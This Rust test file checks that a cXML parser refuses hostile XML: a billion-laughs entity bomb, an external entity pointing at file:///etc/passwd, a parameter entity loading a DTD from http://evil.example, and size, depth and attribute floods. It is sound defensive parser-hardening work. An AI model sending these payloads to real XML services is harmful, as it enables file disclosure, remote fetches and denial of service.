//! Hostile documents fail cleanly, quickly and without touching the
//! network or the file system.

use cxml::status_code::StatusCode;
use cxml::tree::{self, TreeLimits, WellFormedness, WellFormednessKind};

fn error(bytes: &[u8]) -> WellFormedness {
    match tree::parse(bytes) {
        Ok(doc) => panic!("hostile document accepted, root <{}>", doc.root().name()),
        Err(e) => e,
    }
}

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    let mut xml =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        xml.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    xml.push_str("]>\n<lolz>&lol9;</lolz>");
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::EntityDeclaration);
    assert_eq!((e.line, e.column), (2, 1));
    assert!(
        e.message.contains("entity declarations are not accepted"),
        "{}",
        e.message
    );
    assert_eq!(e.status_code(), StatusCode::NOT_ACCEPTABLE);
}

#[test]
fn external_entity_is_refused() {
    let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE cXML [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n\
               <cXML><Header>&xxe;</Header></cXML>";
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::EntityDeclaration);
    assert!(e.message.contains("`xxe`"), "{}", e.message);
    assert!(
        !e.message.contains("root:"),
        "file content leaked: {}",
        e.message
    );
}

#[test]
fn parameter_entity_is_refused() {
    let xml =
        "<!DOCTYPE cXML [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]><cXML/>";
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::EntityDeclaration);
    assert!(e.message.contains("`%remote`"), "{}", e.message);
}

#[test]
fn undeclared_entity_reference_is_refused() {
    let e = error(b"<cXML>\n  <a>&lol9;</a>\n</cXML>");
    assert_eq!(e.kind, WellFormednessKind::UndeclaredEntity);
    assert_eq!(e.line, 2);
}

#[test]
fn oversized_body_fails_before_parsing() {
    // 100 MB of well-formed-looking content: rejected on its length alone.
    let mut body = b"<cXML>".to_vec();
    body.resize(100 * 1024 * 1024, b'a');
    let e = error(&body);
    assert_eq!(e.kind, WellFormednessKind::TooLarge);
    assert!(e.message.contains("16777216"), "{}", e.message);
    assert_eq!(e.status_code(), StatusCode::DOCUMENT_SIZE_ERROR);
}

#[test]
fn custom_size_limit() {
    let limits = TreeLimits {
        max_bytes: 1024,
        ..TreeLimits::default()
    };
    let doc = format!("<a>{}</a>", "x".repeat(2000));
    let e = tree::parse_with(doc.as_bytes(), &limits).unwrap_err();
    assert_eq!(e.kind, WellFormednessKind::TooLarge);
}

#[test]
fn deep_nesting_is_refused() {
    let depth = 10_000;
    let xml = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::TooDeep);
    assert_eq!((e.line, e.column), (1, 256 * 3 + 1));
    assert!(e.message.contains("256"), "{}", e.message);
}

#[test]
fn depth_limit_cannot_be_raised_past_the_supported_maximum() {
    let limits = TreeLimits {
        max_depth: usize::MAX,
        ..TreeLimits::default()
    };
    let depth = 5_000;
    let xml = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let e = tree::parse_with(xml.as_bytes(), &limits).unwrap_err();
    assert_eq!(e.kind, WellFormednessKind::TooDeep);
    let ok = format!("{}{}", "<a>".repeat(300), "</a>".repeat(300));
    assert!(tree::parse_with(ok.as_bytes(), &limits).is_ok());
}

#[test]
fn garbage_is_not_a_document() {
    for junk in [
        &b"\x00\x01\x02"[..],
        b"<html><body>502 Bad Gateway",
        b"{\"json\": true}",
        b"\xff\xfe<\x00a\x00/\x00>\x00",
    ] {
        let e = error(junk);
        assert_eq!(e.status_code(), StatusCode::NOT_ACCEPTABLE, "{e}");
    }
}

/// `n` attributes `a0`…, on the root of a cXML OrderRequest-like envelope
/// (`on_root`), or on an Extrinsic inside it.
fn attribute_flood(n: usize, on_root: bool) -> String {
    let attrs: String = (0..n).map(|i| format!(" a{i}=\"v\"")).collect();
    let (root, inner) = if on_root {
        (attrs.as_str(), String::new())
    } else {
        ("", format!("<Extrinsic name=\"x\"{attrs}>y</Extrinsic>"))
    };
    format!(
        "<?xml version=\"1.0\"?>\n<cXML payloadID=\"p\" timestamp=\"2026-01-01T00:00:00Z\"{root}>\
         <Header><From><Credential domain=\"d\"><Identity>f</Identity></Credential></From>\
         <To><Credential domain=\"d\"><Identity>t</Identity></Credential></To>\
         <Sender><Credential domain=\"d\"><Identity>s</Identity></Credential>\
         <UserAgent>u</UserAgent></Sender></Header>\
         <Request><PunchOutSetupRequest operation=\"create\"><BuyerCookie>c</BuyerCookie>\
         {inner}<BrowserFormPost><URL>http://b/</URL></BrowserFormPost>\
         <SupplierSetup><URL>http://s/</URL></SupplierSetup></PunchOutSetupRequest>\
         </Request></cXML>"
    )
}

/// Looking for repeated attributes grows with the square of their number
/// (100,000 on one tag took 15 s): past MAX_ATTRIBUTES a tag is refused by
/// the tree, the typed reader (on both its paths) and the layout, and at
/// the limit it is read.
#[test]
fn a_tag_with_more_attributes_than_the_limit_is_refused_everywhere() {
    let over = tree::MAX_ATTRIBUTES + 1;
    for on_root in [true, false] {
        let flood = attribute_flood(over, on_root);
        let e = error(flood.as_bytes());
        assert_eq!(e.kind, WellFormednessKind::TooManyAttributes, "{e}");
        assert!(e.message.contains("256"), "{}", e.message);
        let read = cxml::read::read(flood.as_bytes()).unwrap_err();
        assert!(
            read.to_string().contains("more than 256 attributes"),
            "{read}"
        );
        assert!(
            cxml::pretty::layout(&flood, 10_000).is_none(),
            "the layout shows it as text"
        );
        // The root already has payloadID and timestamp, the Extrinsic its name.
        let own = if on_root { 2 } else { 1 };
        let at_limit = attribute_flood(tree::MAX_ATTRIBUTES - own, on_root);
        assert!(tree::parse(at_limit.as_bytes()).is_ok());
        let huge = attribute_flood(200_000, on_root);
        assert_eq!(
            error(huge.as_bytes()).kind,
            WellFormednessKind::TooManyAttributes
        );
        assert!(cxml::read::read(huge.as_bytes()).is_err());
    }
}
